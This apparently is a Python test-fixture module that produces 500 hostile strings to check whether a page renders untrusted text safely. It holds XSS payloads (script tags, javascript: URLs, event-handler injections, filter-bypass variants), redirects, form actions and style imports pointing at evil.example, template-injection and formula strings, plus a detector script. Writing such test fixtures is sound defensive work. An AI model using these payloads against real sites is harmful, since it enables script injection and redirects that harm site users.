"""Five hundred texts that are markup, script, or trouble for whoever draws them."""

from itertools import islice, product
from typing import Final

HIT: Final = "window.hit=(window.hit||0)+1"
MARK: Final = "Kenmerk"
"""Stands at the beginning of every text, so that a test can see that it was drawn."""

_BREAKS: Final = ("", '">', "'>", "</textarea>", "</script>", "-->", "</title>", "\x00<b>", "]]>", "\u202e")
_TAGS: Final = (
    "img src=x", "svg", "body", "video src=x", "iframe", "input autofocus", "details open", "marquee", "audio src=x",
    "object data=x", "math", "a href=x",
)  # fmt: skip
_EVENTS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onclick", "onanimationstart")

SPECIAL: Final = (
    f"<script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<SCRIPT SRC=data:text/javascript,{HIT}></SCRIPT>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<a href='javascript:{HIT}'>hier</a>",
    f"<a href='jav\tascript:{HIT}'>hier</a>",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; * {background: url(//evil.example/x)}</style>",
    "<form action='//evil.example/'><button>Verder</button></form>",
    "<div style='position:fixed;inset:0;background:red'>",
    f"${{{HIT}}}", f"{{{{{HIT}}}}}", f"{{% {HIT} %}}", f"<!--?lit$1$-->{HIT}", "<?lit$123456789$?>", "{{build}}", "{n}",
    f"&lt;img src=x onerror={HIT}&gt;", "&#60;script&#62;", "\\u003cscript\\u003e",
    "__proto__", "constructor", "toString", "null", "undefined", "NaN", "[object Object]", "%s%n%d", "=1+1", "@SUM(1)",
    "\u202eomgekeerd\u202d gewoon \u2066nog\u2069", "a" + "\u0301" * 400, "\u0489" * 200, "\ufdfd" * 50, "W" * 300,
    "👨‍👩‍👧‍👦" * 40, "\u200b\u200d\u2060\ufeff onzichtbaar", "\ud7ff\ue000\U000f0000 eigen",
    "\x00\x07\x1b[31mrood\x1b[0m",
    "\u2028regel\u2029alinea\x85", "ǅ ﬃ Ⅷ İ ı ß ẞ", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "ال" * 60, "🏳️‍🌈" * 60,
)  # fmt: skip

_TRIED: Final = (f"{before}<{tag} {event}={HIT} x=" for before, tag, event in product(_BREAKS, _TAGS, _EVENTS))
PAYLOADS: Final = (*SPECIAL, *islice(_TRIED, 500 - len(SPECIAL)))

FOUND: Final = """() => {
  const made = 'script:not([src]), iframe, object, embed, base, marquee, math, form[action], [srcdoc], ' +
    'a[href^="java"], ' +
    'a[href^="data:"], a[href*="evil"], link[href*="evil"], meta[http-equiv="refresh"], ' +
    [...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames()).filter(name => name.startsWith('on'))
      .map(name => `[${name}]`).concat('x-none').join(', ');
  return {hit: window.hit ?? 0, made: [...document.querySelectorAll(made)].map(one => one.outerHTML.slice(0, 80)),
    marks: document.body.innerText.split('Kenmerk').length - 1 };
}"""
"""What a page has that it should not: how often a payload ran, elements of payloads; and how many marks are drawn."""


def texts(longest: int) -> list[str]:
    """All payloads, as many in a text as fit in `longest` code points."""
    made, text = list[str](), MARK
    for payload in PAYLOADS:
        if len(text) + 1 + len(payload) > longest:
            made.append(text)
            text = MARK
        text = f"{text} {payload}"
    return [*made, text]


def lines(longest: int) -> list[str]:
    """Payloads that fit on a line, one each."""
    return [f"{MARK} {payload}"[:longest] for payload in PAYLOADS if "\n" not in payload]
